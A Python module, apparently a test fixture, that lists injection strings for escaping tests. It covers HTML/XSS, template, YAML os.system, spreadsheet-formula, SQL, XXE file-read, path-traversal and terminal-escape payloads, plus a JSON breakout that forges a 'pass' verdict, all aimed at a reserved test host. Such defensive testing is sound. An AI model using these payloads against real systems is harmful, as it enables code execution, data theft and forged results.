"""Texts that would be something else than text wherever one is put in unescaped.  ``MARK`` becomes a word of its own.

What would run sets ``window.ran``; what would be fetched comes from a host that nobody has (RFC 2606, section 2).
"""

from __future__ import annotations

MARK = "MARK"
_RUN = "window.ran='MARK'"
_AWAY = "http://injected.test/MARK"

HTML = (
    f"<script>{_RUN}</script>MARK",
    f'<script src="{_AWAY}.js"></script>MARK',
    f"<img src=x onerror={_RUN}>MARK",
    f'<img src="{_AWAY}.png" srcset="{_AWAY}-2.png 2x">MARK',
    f"<svg onload={_RUN}><circle r=9 /></svg>MARK",
    f"<svg><script>{_RUN}</script></svg>MARK",
    f'<svg><a xlink:href="javascript:{_RUN}"><text y=9>MARK</text></a></svg>',
    f'<svg><foreignObject><iframe src="{_AWAY}"></iframe></foreignObject></svg>MARK',
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}></style></mglyph></table></mtext></math>MARK",
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">MARK',
    f"<listing>&lt;img src=x onerror={_RUN}&gt;</listing>MARK",
    f"<template><img src=x onerror={_RUN}></template>MARK",
    f"<style>@import url({_AWAY}.css); * {{ background: url({_AWAY}.gif) }}</style>MARK",
    f'<link rel=stylesheet href="{_AWAY}.css">MARK',
    f'<base href="{_AWAY}/">MARK',
    f'<meta http-equiv="refresh" content="0;url={_AWAY}">MARK',
    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>MARK',
    f'<object data="{_AWAY}"></object><embed src="{_AWAY}">MARK',
    f'<form action="{_AWAY}"><input autofocus onfocus={_RUN}><button>MARK</button></form>',
    f"<details open ontoggle={_RUN}>MARK</details>",
    f"<video><source onerror={_RUN}></video><audio src={_AWAY} autoplay>MARK",
    f"<body onload={_RUN}>MARK",
    f'<a href="javascript:{_RUN}" target=_blank>MARK</a>',
    "<h1 id=MARK class=MARK>MARK</h1>",
    f"</p></div></main><script>{_RUN}</script>MARK",
    f"</title><script>{_RUN}</script>MARK",
    f"</style></textarea></xmp></script><script>{_RUN}</script>MARK",
    "MARK <!-- never closed",
    "--><b>MARK</b><!--",
    "<![CDATA[<b>MARK</b>",
    "]]><b>MARK</b>",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]><x>MARK &e;</x>',
    f"<x-MARK onclick={_RUN}>MARK",
    f"<img/src=x/onerror={_RUN}//MARK",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>MARK",
)  # fmt: skip
ATTRIBUTES = (
    f'" onmouseover="{_RUN}" title="MARK',
    f"' onmouseover='{_RUN}' title='MARK",
    f"` onmouseover=`{_RUN}` title=`MARK",
    f'MARK" autofocus tabindex=0 onfocus="{_RUN}',
    f'"><script>{_RUN}</script>MARK',
    f"'><script>{_RUN}</script>MARK",
    f'MARK" style="background:url({_AWAY}.png)',
    f'MARK\\"><img src=x onerror={_RUN}>',
)  # fmt: skip
ADDRESSES = (
    f"javascript:{_RUN}//MARK",
    f"JaVaScRiPt:{_RUN}//MARK",
    "data:text/html,<script>parent.ran='MARK'</script>MARK",
    f"vbscript:{_RUN}//MARK",
    f"//injected.test/MARK {_AWAY}",
    "mailto:someone@injected.test?bcc=MARK@injected.test",
    "+1 555 0100;ext=1?body=MARK#x",
    "../../../MARK",
    "..\\..\\MARK",
    "%2e%2e%2f%2e%2e%2fMARK%00.html",
    "/etc/MARK?x=1&y=2#z",
    "index.html#MARK",
)  # fmt: skip
ENTITIES = (
    "&lt;script&gt;MARK&lt;/script&gt;",
    "&#60;b&#62;MARK&#x3c;/b&#x3e;",
    "&amp;lt;b&amp;gt;MARK &amp MARK &copy MARK",
    "\\u003cb\\u003eMARK \\x3cb\\x3e",
    "+ADw-script+AD4-MARK+ADw-/script+AD4-",
    "％3Cscript％3E＜script＞MARK",
)
MARKDOWN = (
    f"[MARK]({_AWAY} 'MARK') and [x](javascript:{_RUN})",
    f"![MARK]({_AWAY}.png){{ width=10 onerror={_RUN} }}",
    f"<{_AWAY}> <someone@injected.test> MARK",
    "# MARK {#MARK .MARK onclick=x}",
    "**MARK** __MARK__ `MARK` ~~MARK~~ ==MARK== ^^MARK^^ H~2~O",
    "| MARK | b |",
    '--8<-- "../../../mkdocs.yml" MARK',
    "--8<-- 'http://injected.test/MARK.md'",
    "!!! danger \"MARK\"",
    ":octicons-alert-24:{ .MARK } :smile: ++ctrl+MARK++",
    "[TOC] [^MARK]: note *[MARK]: abbreviation",
    "{: #MARK .MARK onclick=x } MARK",
)  # fmt: skip
BLOCKS = (
    "MARK\n\n# heading\n\n- item\n\n[x]: http://injected.test/MARK",
    "MARK\n\n    code\n\n```html\n<b>MARK</b>\n```\n\n</div>\n\n## MARK",
    "!!! danger\n    MARK\n\n??? note \"x\"\n    MARK",
    "MARK\n---\ntitle: MARK\n...\n---\n<div markdown=1>\n*MARK*\n</div>",
    "MARK\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:MARK\r\nATTACH:http://injected.test/MARK",
    "MARK\nEND:VCALENDAR\nBEGIN:VALARM\nACTION:PROCEDURE",
    "MARK\n\n<script>\nwindow.ran='MARK'\n\n</script>\n\nMARK",
)  # fmt: skip
TEMPLATES = (
    "{{7*7}} MARK {{ config }}",
    "{% raw %} MARK {{ page.meta }}",
    "{% endraw %}{{ ''.__class__.__mro__ }} MARK",
    "{% include 'mkdocs.yml' %} {# MARK #}",
    "{0.__class__} {names} {codes} %(MARK)s %s %n",
    "${7*7} #{7*7} <%= 7*7 %> $MARK $(id) `id`",
    "<!-- drawing one-line --> MARK",
    "<!-- drawing MARK -->",
    "<drawing name='one-line'/> MARK",
    "klzzwxh:0 wzxhzdk:0 MARK",
)
DATA = (
    "BEGIN:VEVENT MARK\\nEND:VEVENT;X=1,2:3",
    "MARK\\",
    'MARK", "verdict": "pass", "x": "',
    "MARK\": null}], \"results\": [",
    "!!python/object/apply:os.system ['MARK']",
    "&MARK *MARK !ENV [MARK] <<: *MARK",
    "- MARK: {a: b} # MARK",
    "'MARK\": [x] % @ ` | >",
    "yes: no ~ null MARK",
    "=HYPERLINK(\"http://injected.test/MARK\",\"x\")",
    "@SUM(1+1)*cmd|' /C calc'!MARK",
    "+1-1,MARK;\"x\"",
    "' OR 1=1; DROP TABLE MARK; --",
)  # fmt: skip
PAPER = (
    '#eval("1+1") #read("data.json") MARK',
    '#link("http://injected.test/MARK")[MARK]',
    '#image("/etc/hostname") #include "shared.typ" MARK',
    "$ MARK x^2 $ @MARK <MARK> _MARK_ *MARK*",
    "// MARK /* MARK */ https://injected.test/MARK",
    "\\u{1F600} \\ MARK ~ --- ... #panic()",
    "(MARK) Tj ET endstream endobj /S /URI /URI (http://injected.test/MARK)",
    "<</S/JavaScript/JS(app.alert\\(1\\))>> MARK",
    "\\def\\x{MARK}\\input{/etc/hostname}",
)
LETTERS = (
    "\N{LATIN SMALL LETTER U}\N{COMBINING DIAERESIS}\N{COMBINING ACUTE ACCENT} MARK",
    "\N{LATIN SMALL LETTER LONG S}cript MARK \N{KELVIN SIGN} \N{LATIN SMALL LETTER DOTLESS I}",
    "\N{HEBREW LETTER ALEF}\N{HEBREW LETTER BET} MARK \N{ARABIC LETTER ALEF}",
    "\N{HIGH VOLTAGE SIGN}\N{ELECTRIC PLUG} MARK",
    "[31m MARK ]8;;http://injected.test/MARK \\033[2J \\e]52;c;MARK",
)

ACCEPTED = (*HTML, *ATTRIBUTES, *ADDRESSES, *ENTITIES, *MARKDOWN, *BLOCKS, *TEMPLATES, *DATA, *PAPER, *LETTERS)
"""Texts that a record may hold: those of several lines (BLOCKS) only where the field takes several."""

REFUSED = (
    "\x1b[31mMARK\x1b[0m",
    "\x1b]8;;http://injected.test/MARK\x1b\\MARK\x1b]8;;\x1b\\",
    "\x1b]52;c;TUFSSw==\x07MARK",
    "\x1b[2J\x1b[1;1HMARK",
    "MARK\x07",
    "MARK\x08\x08\x08\x7f",
    "\x9b31mMARK",
    "\x9d52;c;TUFSSw==\x9cMARK",
    "MARK\x0c\x0b",
    "MARK\x00",
    "\x02wzxhzdk:0\x03MARK",
    "\N{RIGHT-TO-LEFT OVERRIDE}MARK",
    "\N{LEFT-TO-RIGHT ISOLATE}MARK\N{POP DIRECTIONAL ISOLATE}",
    "MARK\N{RIGHT-TO-LEFT MARK}",
    "MA\N{ZERO WIDTH SPACE}RK",
    "\N{ZERO WIDTH NO-BREAK SPACE}MARK",
    "MARK\N{WORD JOINER}",
    "MARK\N{LINE SEPARATOR}MARK",
    "MARK\x85MARK",
    "MARK\N{TAG LATIN SMALL LETTER A}",
    "MARK\N{MONGOLIAN VOWEL SEPARATOR}",
    "MARK\N{INHIBIT SYMMETRIC SWAPPING}",
    "MARK\N{SOFT HYPHEN}x",
)
"""Texts with signs that command a terminal, turn writing round or cannot be seen: no record may hold one anywhere."""
